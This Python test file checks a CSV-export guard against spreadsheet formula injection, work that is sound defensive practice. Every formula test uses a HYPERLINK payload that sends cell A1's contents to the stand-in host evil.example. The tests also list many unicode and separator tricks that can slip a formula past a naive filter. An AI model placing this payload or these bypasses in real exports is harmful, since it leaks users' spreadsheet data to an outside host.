"""No cell of a CSV answer runs in a spreadsheet."""

import re

import pytest

from gateway.http.request.csv_cells import guarded

LINK = 'HYPERLINK("https://evil.example/?"&A1)'


@pytest.mark.parametrize(
    "begins",
    [
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        "\t",
        "\r",
        "\n",
        " =",
        "\u00a0=",
        "\uff1d",
        "\ufeff=",
        "\u202e @",
        "\u200b=",
        "\u180e=",
        "\u2066=",
        "\ufe0f+",
        "\u034f@",
        "\u3164=",
        "\x00=",
        "\x1f-",
        "\u3000=",
        "\ufe66",
        "\ufe62",
        "\ufe6b",
        "\ufe63",
        "\u2212",
        "\u207c",
        "\U000e0020=",
        '"=',
        '""=',
        '" =',
        "\uff02=",
    ],
)
def test_what_may_be_a_formula_is_shown_as_text(begins: str) -> None:
    assert guarded({"from": begins + LINK}) == {"from": "'" + begins + LINK}


@pytest.mark.parametrize("separator", [";", "; ", "\t", "\r\n", "\n", "|", ";;", ';"', '; "'])
@pytest.mark.parametrize("sign", ["=", "@", "+", "\uff1d"])
def test_what_another_separator_would_make_a_formula_is_shown_as_text(separator: str, sign: str) -> None:
    cell = guarded({"from": f"Anna{separator}{sign}{LINK}"})["from"]
    assert isinstance(cell, str) and cell.replace("'", "") == f"Anna{separator}{sign}{LINK}"
    assert not any(part.strip(' "')[:1] == sign for part in re.split("[;|\t\r\n]", cell))


@pytest.mark.parametrize("cell", ["", "Anna", "0049-30", "a=b", "Anna; Ben", "a|b", "\u00e9=", 5, -5, 1.5, None, True])
def test_other_cells_stay(cell: object) -> None:
    assert guarded({"from": cell}) == {"from": cell}
